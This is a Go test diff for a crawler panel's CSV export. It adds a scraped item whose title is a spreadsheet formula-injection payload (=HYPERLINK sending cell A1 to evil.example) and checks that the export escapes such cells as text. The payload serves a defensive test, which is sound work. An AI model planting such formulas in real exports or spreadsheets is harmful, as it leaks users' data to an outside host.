@@ -2,6 +2,7 @@ package web_test
 
 import (
 	"context"
+	"encoding/csv"
 	"net/http"
 	"net/url"
 	"os"
@@ -87,7 +88,8 @@ func TestCrawlPages(t *testing.T) {
 			"headers": map[string]string{"Content-Type": "text/html", "Set-Cookie": "[redacted]"}})
 	require.NoError(t, err)
 	_, _, err = st.SaveItems(ctx, a.ID, job.ID, runs[1], map[string]map[string]any{
-		"u1": {"url": "http://x/item/1", "title": "Lamp, red", "price": 12.5}, "u2": {"url": "http://x/item/2", "title": "Mug", "price": 3.0}}, time.Now())
+		"u1": {"url": "http://x/item/1", "title": "Lamp, red", "price": 12.5}, "u2": {"url": "http://x/item/2", "title": "Mug", "price": 3.0},
+		"u3": {"url": "http://x/item/3", "title": `=HYPERLINK("http://evil.example/?d="&A1,"open")`, "price": -1.0, "sku": "+1+1"}}, time.Now())
 	require.NoError(t, err)
 
 	res, body = paneltest.Do(t, vcl, "GET", c.Server.URL+jobPath, nil)
@@ -116,8 +118,19 @@ func TestCrawlPages(t *testing.T) {
 	require.Equal(t, "text/csv; charset=utf-8", res.Header.Get("Content-Type"))
 	require.Contains(t, body, "key,first_seen,last_seen,changed_at,url,title,price,sku\n")
 	require.Contains(t, body, `"Lamp, red",12.5`)
+	// A scraped cell a spreadsheet would run as a formula is text; a
+	// negative number stays a number.
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	require.NoError(t, err)
+	var evil []string
+	for _, r := range rows {
+		if r[0] == "u3" {
+			evil = r
+		}
+	}
+	require.Equal(t, []string{"http://x/item/3", `'=HYPERLINK("http://evil.example/?d="&A1,"open")`, "-1", "'+1+1"}, evil[4:], "url, title, price, sku")
 	res, body = paneltest.Do(t, vcl, "GET", c.Server.URL+jobPath+"/items?format=jsonl", nil)
-	require.Equal(t, 2, strings.Count(body, "\n"))
+	require.Equal(t, 3, strings.Count(body, "\n"))
 
 	// Pause from the console: audited, the job shows it.
 	res, _ = paneltest.Do(t, cl, "POST", c.Server.URL+jobPath+"/pause", url.Values{})
